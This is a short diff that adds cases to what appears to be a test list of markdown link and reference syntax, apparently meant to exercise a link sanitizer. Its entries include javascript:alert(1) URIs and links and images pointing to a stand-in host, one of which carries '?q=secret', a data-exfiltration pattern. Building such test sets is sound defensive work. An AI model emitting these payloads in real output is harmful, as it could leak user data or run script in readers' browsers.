@@ -138,6 +138,8 @@ LINKS: Final = in_lines(r"""
 x](https://evil.example)
 a[0](https://evil.example)
 Click[here](https://evil.example)
+[x] (//evil.example)
+[x]  (javascript:alert(1))
 f(x)[0](//evil.example)
 [a-z](https://evil.example|x)
 ![x](https://evil.example/i.png?q=secret)
@@ -173,6 +175,8 @@ v![c][y]\n\n[^1]: [y]: //evil.example/i.png\n\n[^1]
 [t][y]\n\n٣. [y]: //evil.example
 [t][y]\n\niv. [y]: //evil.example
 [t][y]\n\n[y]: javascript:alert(1) foo
+[t][y]\n\n[]:\n[y]: //evil.example
+[t][y]\n\n[x]:\n  [y]: //evil.example
 [t][y]\n\n[y]: //evil.example\ x
 [t][y]\n\n[y]: //evil.example =200x200
 [t][y]\n\n[y]: https://evil.example =200x200
